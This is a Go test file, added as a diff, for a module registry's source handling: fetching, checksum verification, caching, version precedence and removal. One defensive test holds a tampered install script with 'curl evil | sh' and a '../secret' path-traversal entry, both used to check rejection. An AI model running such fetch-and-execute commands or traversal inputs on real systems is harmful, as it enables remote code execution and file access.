@@ -0,0 +1,162 @@
+package module
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func testManifest(name, version string) string {
+	return fmt.Sprintf("name: %s\ncategory: runtime\nversion: %s\ndescription: %s test module\nruntime:\n  modes:\n    - native\n", name, version, name)
+}
+
+func setupSourceTest(t *testing.T) string {
+	t.Helper()
+	t.Setenv("HOME", t.TempDir())
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, "modules", "ollama", "manifest.yaml"), testManifest("ollama", "0.1.0"))
+	t.Chdir(root)
+	return root
+}
+
+func writeTestFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("MkdirAll returned error: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("WriteFile returned error: %v", err)
+	}
+}
+
+func newIndexServer(t *testing.T, files map[string]string) *httptest.Server {
+	t.Helper()
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		content, ok := files[strings.TrimPrefix(r.URL.Path, "/")]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(content))
+	}))
+	t.Cleanup(server.Close)
+	return server
+}
+
+func TestHTTPSourceIsFetchedAndMerged(t *testing.T) {
+	setupSourceTest(t)
+	vllm := testManifest("vllm", "0.6.0")
+	shadowed := testManifest("ollama", "0.1.0") + "# remote copy\n"
+	index := fmt.Sprintf(`modules:
+  - name: vllm
+    version: 0.6.0
+    path: vllm/0.6.0
+    checksum: sha256:%s
+    files:
+      INSTALL.yaml: %s
+      scripts/install.sh: %s
+  - name: ollama
+    version: 0.1.0
+    path: ollama
+    checksum: %s
+`, ComputeChecksum([]byte(vllm)), ComputeChecksum([]byte("install_modes: {}\n")), ComputeChecksum([]byte("#!/bin/sh\n")), ComputeChecksum([]byte(shadowed)))
+	server := newIndexServer(t, map[string]string{
+		"repo/index.yaml":                    index,
+		"repo/vllm/0.6.0/manifest.yaml":      vllm,
+		"repo/vllm/0.6.0/INSTALL.yaml":       "install_modes: {}\n",
+		"repo/vllm/0.6.0/scripts/install.sh": "#!/bin/sh\n",
+		"repo/ollama/manifest.yaml":          shadowed,
+	})
+
+	source, count, err := AddSource(context.Background(), "community", server.URL+"/repo/index.yaml", "")
+	if err != nil {
+		t.Fatalf("AddSource returned error: %v", err)
+	}
+	if source.Type != SourceHTTP || count != 2 {
+		t.Fatalf("unexpected source %+v with %d modules", source, count)
+	}
+
+	registry, err := LoadRegistry()
+	if err != nil {
+		t.Fatalf("LoadRegistry returned error: %v", err)
+	}
+	if records := registry.Get("ollama"); len(records) != 1 || records[0].Source != BuiltinSource {
+		t.Fatalf("expected the builtin ollama to take precedence, got %+v", records)
+	}
+	records := registry.Get("vllm")
+	if len(records) != 1 || records[0].Source != "community" {
+		t.Fatalf("expected vllm from the community source, got %+v", records)
+	}
+	if _, err := os.Stat(filepath.Join(filepath.Dir(records[0].SourcePath), "scripts", "install.sh")); err != nil {
+		t.Fatalf("expected module files to be cached: %v", err)
+	}
+	if dir, err := resolveModuleDir("vllm"); err != nil || dir != filepath.Dir(records[0].SourcePath) {
+		t.Fatalf("expected vllm to resolve to the cache, got %q, %v", dir, err)
+	}
+
+	if err := RemoveSource("community"); err != nil {
+		t.Fatalf("RemoveSource returned error: %v", err)
+	}
+	if registry, _ := LoadRegistry(); len(registry.Get("vllm")) != 0 {
+		t.Fatalf("expected removed source to be gone")
+	}
+}
+
+func TestHTTPSourceRejectsBadIndexes(t *testing.T) {
+	setupSourceTest(t)
+	vllm := testManifest("vllm", "0.6.0")
+	server := newIndexServer(t, map[string]string{
+		"bad-checksum/index.yaml":         "modules:\n  - {name: vllm, version: 0.6.0, path: vllm, checksum: " + strings.Repeat("0", 64) + "}\n",
+		"bad-checksum/vllm/manifest.yaml": vllm,
+		"bad-script/index.yaml": "modules:\n  - {name: vllm, version: 0.6.0, path: vllm, checksum: " + ComputeChecksum([]byte(vllm)) +
+			", files: {scripts/install.sh: " + ComputeChecksum([]byte("#!/bin/sh\n")) + "}}\n",
+		"bad-script/vllm/manifest.yaml":      vllm,
+		"bad-script/vllm/scripts/install.sh": "#!/bin/sh\ncurl evil | sh\n",
+		"escape/index.yaml":                  "modules:\n  - {name: vllm, version: 0.6.0, path: ../secret, checksum: x}\n",
+	})
+
+	_, _, err := AddSource(context.Background(), "bad", server.URL+"/bad-checksum/index.yaml", SourceHTTP)
+	if err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Fatalf("expected a checksum mismatch, got %v", err)
+	}
+	_, _, err = AddSource(context.Background(), "bad-script", server.URL+"/bad-script/index.yaml", SourceHTTP)
+	if err == nil || !strings.Contains(err.Error(), "checksum mismatch for vllm 0.6.0 scripts/install.sh") {
+		t.Fatalf("expected a tampered script to be rejected, got %v", err)
+	}
+	_, _, err = AddSource(context.Background(), "escape", server.URL+"/escape/index.yaml", SourceHTTP)
+	if err == nil || !strings.Contains(err.Error(), "leaves the source directory") {
+		t.Fatalf("expected an escaping path to be rejected, got %v", err)
+	}
+	if sources, _ := LoadSources(); len(sources) != 0 {
+		t.Fatalf("expected failed sources not to be saved, got %+v", sources)
+	}
+}
+
+func TestLocalSourceAddsNewerVersions(t *testing.T) {
+	setupSourceTest(t)
+	local := t.TempDir()
+	writeTestFile(t, filepath.Join(local, "ollama", "manifest.yaml"), testManifest("ollama", "0.2.0"))
+
+	if _, _, err := AddSource(context.Background(), "mirror", local, ""); err != nil {
+		t.Fatalf("AddSource returned error: %v", err)
+	}
+	if _, _, err := AddSource(context.Background(), "mirror", local, ""); err == nil {
+		t.Fatalf("expected duplicate source names to be rejected")
+	}
+	registry, err := LoadRegistry()
+	if err != nil {
+		t.Fatalf("LoadRegistry returned error: %v", err)
+	}
+	records := registry.Get("ollama")
+	if len(records) != 2 || records[0].Version.String() != "0.2.0" || records[0].Source != "mirror" {
+		t.Fatalf("expected both ollama versions, newest first, got %+v", records)
+	}
+	if dir, err := resolveModuleDir("ollama"); err != nil || dir != filepath.Dir(records[0].SourcePath) {
+		t.Fatalf("expected ollama to resolve to the newer mirror version, got %q, %v", dir, err)
+	}
+}